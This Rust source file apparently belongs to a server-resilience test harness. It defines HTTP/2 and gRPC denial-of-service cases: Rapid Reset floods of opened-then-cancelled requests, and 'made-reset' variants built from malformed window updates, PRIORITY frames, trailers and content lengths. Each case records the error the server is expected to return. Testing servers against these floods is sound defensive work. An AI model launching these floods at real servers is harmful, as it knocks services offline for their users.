//! Rapid reset (CVE-2023-44487), and resets that the server is made to send
//! (CVE-2025-8671).

use larder_transport::error_codes::ErrorCode;
use larder_transport::frame::{Kind, write_reset, write_window_update};

use super::{Attack, Attacking, CALM, Ends, Outcome, Pace, Target, attack, flood};
use crate::calls;
use crate::wire::{frame, open_request, whole_request};

/// The protocol has an error of the connection for it, too.
const CALM_OR_CLOSED: Ends = Ends::With(&[
    ErrorCode::ENHANCE_YOUR_CALM,
    ErrorCode::STREAM_CLOSED,
    ErrorCode::PROTOCOL_ERROR,
]);

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "rapid-reset",
        "calls that are taken back at once, as fast as they go",
        CALM,
        |target| Box::pin(rapid(target, Pace::FAST)),
    ),
    attack(
        "rapid-reset-paced",
        "the same, no faster than ends within the time",
        CALM,
        |target| {
            // Three times the burst over the whole time.
            let ms = target.size.duration.as_millis().clamp(1, 1 << 20);
            let ms = u32::try_from(ms).unwrap_or(u32::MAX);
            let pace = Pace {
                batch: 8,
                per_second: Some((3 * 4096 * 1000 / ms).max(1)),
            };
            Box::pin(rapid(target, pace))
        },
    ),
    attack(
        "rapid-reset-other-lane",
        "requests that are no gRPC, taken back at once",
        CALM,
        |target| {
            let block = calls::block("/nowhere", &[]);
            reset_by(target, move |out, stream| {
                whole_request(out, stream, &block);
                write_reset(out, stream, ErrorCode::CANCEL);
            })
        },
    ),
    attack(
        "made-reset-window-zero",
        "window updates of 0",
        CALM,
        |target| {
            on_open_calls(target, |out, stream| {
                frame(out, Kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
            })
        },
    ),
    attack(
        "made-reset-window-overflow",
        "window updates beyond 2^31-1",
        CALM,
        |target| {
            on_open_calls(target, |out, stream| {
                write_window_update(out, stream, (1 << 31) - 1);
            })
        },
    ),
    attack(
        "made-reset-priority",
        "streams that depend on themselves",
        CALM,
        |target| {
            on_open_calls(target, |out, stream| {
                let [a, b, c, d] = stream.to_be_bytes();
                frame(out, Kind::PRIORITY, 0, stream, &[a, b, c, d, 15]);
            })
        },
    ),
    attack(
        "made-reset-priority-length",
        "PRIORITY of a wrong length",
        CALM,
        |target| {
            on_open_calls(target, |out, stream| {
                frame(out, Kind::PRIORITY, 0, stream, &[0; 4]);
            })
        },
    ),
    attack(
        "made-reset-trailers",
        "trailers that do not end their stream",
        CALM,
        |target| {
            on_open_calls(target, |out, stream| {
                open_request(out, stream, b"\0\x01a\x01b");
            })
        },
    ),
    attack(
        "made-reset-data-after-end",
        "content after the request's end",
        CALM_OR_CLOSED,
        |target| {
            let block = calls::block("/nowhere", &[]);
            reset_by(target, move |out, stream| {
                whole_request(out, stream, &block);
                frame(out, Kind::DATA, 0, stream, b"more");
            })
        },
    ),
    attack(
        "made-reset-headers-after-end",
        "headers after the request's end",
        CALM_OR_CLOSED,
        |target| {
            let block = calls::block("/nowhere", &[]);
            reset_by(target, move |out, stream| {
                whole_request(out, stream, &block);
                whole_request(out, stream, b"\0\x01a\x01b");
            })
        },
    ),
    attack(
        "made-reset-malformed",
        "requests with a field that none may have",
        CALM,
        |target| {
            let block = calls::grpc_block(calls::GET, &[("connection", "close")]);
            reset_by(target, move |out, stream| {
                open_request(out, stream, &block);
            })
        },
    ),
    attack(
        "made-reset-content-length",
        "less content than was said",
        CALM,
        |target| {
            let block = calls::grpc_block(calls::GET, &[("content-length", "9")]);
            reset_by(target, move |out, stream| {
                open_request(out, stream, &block);
                frame(out, Kind::DATA, 1, stream, b"less");
            })
        },
    ),
];

async fn rapid(target: Target, pace: Pace) -> anyhow::Result<Outcome> {
    let block = calls::grpc_block(calls::GET, &[]);
    flood(&target, pace, &[], |out, stream| {
        open_request(out, stream, &block);
        write_reset(out, stream, ErrorCode::CANCEL);
    })
    .await
}

fn reset_by(target: Target, write: impl FnMut(&mut Vec<u8>, u32) + 'static) -> Attacking {
    Box::pin(async move { flood(&target, Pace::FAST, &[], write).await })
}

/// Calls whose requests go on, and a frame after each.
fn on_open_calls(target: Target, write: fn(&mut Vec<u8>, u32)) -> Attacking {
    let block = calls::grpc_block(calls::GET, &[]);
    reset_by(target, move |out, stream| {
        open_request(out, stream, &block);
        write(out, stream);
    })
}
